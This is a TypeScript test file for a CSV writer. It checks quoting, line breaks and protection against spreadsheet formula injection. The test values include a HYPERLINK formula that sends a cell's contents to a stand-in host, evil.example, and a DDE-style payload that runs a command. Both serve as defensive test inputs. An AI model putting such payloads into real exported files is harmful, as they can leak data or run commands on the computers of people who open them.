import { toCsv } from './csv';

/** The one data cell of a one-column CSV, as written. */
const written = (value: Parameters<typeof toCsv>[1][number]['a']) =>
  toCsv(['a'], [{ a: value }]).split('\r\n')[1];

describe(toCsv.name, () => {
  it('writes a header row and CRLF line breaks', () => {
    expect(toCsv(['a', 'b'], [{ a: 'x', b: 1 }])).toBe('a,b\r\nx,1\r\n');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    expect(toCsv(['a'], [{ a: 'He said "hi", then\nleft' }])).toBe('a\r\n"He said ""hi"", then\nleft"\r\n');
  });

  it('quotes fields with a semicolon, the separator of decimal-comma locales', () => {
    expect(written('Müller; Schmidt GmbH')).toBe('"Müller; Schmidt GmbH"');
  });

  it('joins lists and leaves nulls empty', () => {
    expect(toCsv(['a', 'b'], [{ a: ['x', 'y'], b: null }])).toBe('a,b\r\n"x; y",\r\n');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['   =1+1', "'   =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\n=1+1', `"'\n=1+1"`],
  ])('neutralises the formula %j with a leading apostrophe', (value, cell) => {
    expect(written(value)).toBe(cell);
  });

  it('neutralises a formula in a list, in the header, and a formula that also holds a separator', () => {
    expect(written(['=1+1', 'x'])).toBe(`"'=1+1; x"`);
    expect(toCsv(['=a'] as const, []).split('\r\n')[0]).toBe("'=a");
    expect(written('=SUM(1;2)')).toBe(`"'=SUM(1;2)"`);
  });

  it('leaves numbers, booleans and ordinary text as they are', () => {
    expect(written(-5)).toBe('-5');
    expect(written(true)).toBe('true');
    expect(written('ACME a=b')).toBe('ACME a=b');
  });
});
